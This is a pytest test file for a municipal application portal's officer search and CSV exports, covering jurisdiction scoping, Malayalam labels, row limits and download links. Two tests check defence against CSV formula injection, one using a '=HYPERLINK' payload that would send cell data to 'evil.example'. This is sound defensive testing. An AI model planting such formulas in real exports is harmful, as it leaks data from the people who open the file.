"""The officer's search (by name or mobile number) and the spreadsheet exports of the inbox and of a search."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from fastapi.testclient import TestClient

from nagara.applications import export
from nagara.kit import spreadsheet
from tests.applications.helpers import apply, birth_form
from tests.applications.test_workbench import submitted
from tests.conftest import People
from tests.officer.helpers import sign_in

BOM = b"\xef\xbb\xbf"


def table(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(BOM)
    return list(csv.DictReader(io.StringIO(response.content[len(BOM) :].decode("utf-8"))))


def filename(response: Any) -> str:
    match = re.match(r'attachment; filename="([^"]+)"', response.headers["content-disposition"])
    assert match, response.headers["content-disposition"]
    return match.group(1)


@pytest.mark.parametrize("value", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://x")'])
def test_a_cell_that_would_be_a_formula_is_text(value: str) -> None:
    assert spreadsheet.cell(value) == "'" + value
    out = b"".join(spreadsheet.lines(["a"], [[value], ["plain"], [None], [True]])).decode()
    assert out.startswith("\ufeffa\r\n")
    rows = list(csv.reader(io.StringIO(out[1:])))
    assert rows[1] == ["'" + value] and rows[2:] == [["plain"], [""], ["yes"]]


def test_the_inbox_as_a_spreadsheet_is_scoped_like_the_inbox(client: TestClient, people: People) -> None:
    mine = submitted(client, people)
    theirs = submitted(client, people, body=people.body_b)
    response = client.get("/api/v1/inbox.csv", headers=people.headers("a_section_clerk"))
    rows = table(response)
    assert re.fullmatch(r"inbox-\d{4}-\d{2}-\d{2}\.csv", filename(response))
    assert list(rows[0]) == list(export.HEADER)
    numbers = [r["number"] for r in rows]
    assert mine["number"] in numbers and theirs["number"] not in numbers
    row = next(r for r in rows if r["number"] == mine["number"])
    assert row["service"] == "birth-registration" and row["step"] == "scrutiny" and row["held_by_role"] == "section_clerk"
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}\+05:30", row["submitted_at"])
    # the other body's clerk gets their own (empty) share of it; a citizen has no inbox
    assert mine["number"] not in [
        r["number"] for r in table(client.get("/api/v1/inbox.csv", headers=people.headers("b_section_clerk")))
    ]
    assert client.get("/api/v1/inbox.csv", headers=people.headers("citizen2")).status_code == 403
    # in Malayalam, the names are the pack's Malayalam, which Excel reads right thanks to the BOM
    ml = table(client.get("/api/v1/inbox.csv", headers={**people.headers("a_section_clerk"), "Accept-Language": "ml"}))
    assert next(r for r in ml if r["number"] == mine["number"])["service_name"] == "ജനന രജിസ്ട്രേഷൻ"
    # the filters are those of the inbox
    other = table(
        client.get("/api/v1/inbox.csv", params={"service": "death-registration"}, headers=people.headers("a_section_clerk"))
    )
    assert mine["number"] not in [r["number"] for r in other]


def test_a_formula_in_a_name_reaches_the_spreadsheet_as_text(
    client: TestClient, people: People, monkeypatch: pytest.MonkeyPatch
) -> None:
    mine = submitted(client, people)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    monkeypatch.setattr(export, "_name", lambda names, language, fallback: evil)  # as a pack (or a form) might name it
    response = client.get("/api/v1/inbox.csv", headers=people.headers("a_section_clerk"))
    row = next(r for r in table(response) if r["number"] == mine["number"])
    assert row["service_name"] == "'" + evil and row["step_name"] == "'" + evil
    assert b"\r\n=HYPERLINK" not in response.content and b",=HYPERLINK" not in response.content


def test_search_results_as_a_spreadsheet(client: TestClient, people: People) -> None:
    app = apply(
        client, people, "citizen1", people.body_a, "birth-registration", birth_form(child_name="Devika Nair"), submit=False
    )
    response = client.get("/api/v1/applications.csv", params={"name": "devika"}, headers=people.headers("a_section_clerk"))
    assert [r["number"] for r in table(response)] == [app["number"]]
    assert re.fullmatch(r"applications-\d{4}-\d{2}-\d{2}\.csv", filename(response))
    outside = client.get("/api/v1/applications.csv", params={"name": "devika"}, headers=people.headers("b_section_clerk"))
    assert table(outside) == []
    refused = client.get("/api/v1/applications.csv", params={"mobile": "12"}, headers=people.headers("a_section_clerk"))
    assert refused.status_code == 422 and refused.json()["errors"][0]["loc"] == ["query", "mobile"]


def test_an_export_larger_than_the_limit_is_refused_not_cut_short(
    client: TestClient, people: People, monkeypatch: pytest.MonkeyPatch
) -> None:
    submitted(client, people), submitted(client, people)
    monkeypatch.setattr(export, "MAX_ROWS", 1)
    response = client.get("/api/v1/inbox.csv", headers=people.headers("a_section_clerk"))
    assert response.status_code == 422
    assert response.headers["content-type"].startswith("application/problem+json")
    assert "narrow the filters" in response.json()["detail"]


def test_the_officer_search_page_and_its_download(client: TestClient, people: People) -> None:
    app = apply(
        client, people, "citizen1", people.body_a, "birth-registration", birth_form(child_name="ശ്രീലക്ഷ്മി Menon"), submit=False
    )
    sign_in(client, people, "a_section_clerk")
    assert 'href="/officer/search"' in client.get("/officer").text
    empty = client.get("/officer/search")
    assert empty.status_code == 200 and "No application" not in empty.text
    page = client.get("/officer/search", params={"name": "ശ്രീലക്ഷ്മി"}).text
    assert f'<a href="/officer/applications/{app["number"]}">' in page
    link = re.search(r'<a href="(/officer/search\.csv\?[^"]+)" download>', page)
    assert link
    rows = table(client.get(link.group(1).replace("&amp;", "&")))
    assert [r["number"] for r in rows] == [app["number"]]
    by_mobile = client.get("/officer/search", params={"mobile": "98470 00001"}).text
    assert app["number"] in by_mobile
    bad = client.get("/officer/search", params={"mobile": "555"})
    assert bad.status_code == 422 and "Enter a 10-digit mobile number" in bad.text and 'aria-invalid="true"' in bad.text

    sign_in(client, people, "b_section_clerk")
    assert "No application in your jurisdiction matches." in client.get("/officer/search", params={"name": "menon"}).text
    assert table(client.get("/officer/search.csv", params={"name": "menon"})) == []


def test_the_inbox_page_links_its_spreadsheet_with_its_filters(client: TestClient, people: People) -> None:
    mine = submitted(client, people)
    sign_in(client, people, "a_section_clerk")
    page = client.get("/officer", params={"service": "birth-registration", "overdue": "no"}).text
    link = re.search(r'<a href="(/officer/inbox\.csv[^"]*)" download', page)
    assert link and "service=birth-registration" in link.group(1) and "overdue=no" in link.group(1)
    response = client.get(link.group(1).replace("&amp;", "&"))
    assert mine["number"] in [r["number"] for r in table(response)]
    assert filename(response).startswith("inbox-")
    assert table(client.get("/officer/inbox.csv", params={"overdue": "yes"})) == []
    signed_out = TestClient(client.app, base_url="https://testserver").get("/officer/inbox.csv", follow_redirects=False)
    assert signed_out.status_code == 303 and signed_out.headers["location"].startswith("/officer/sign-in")
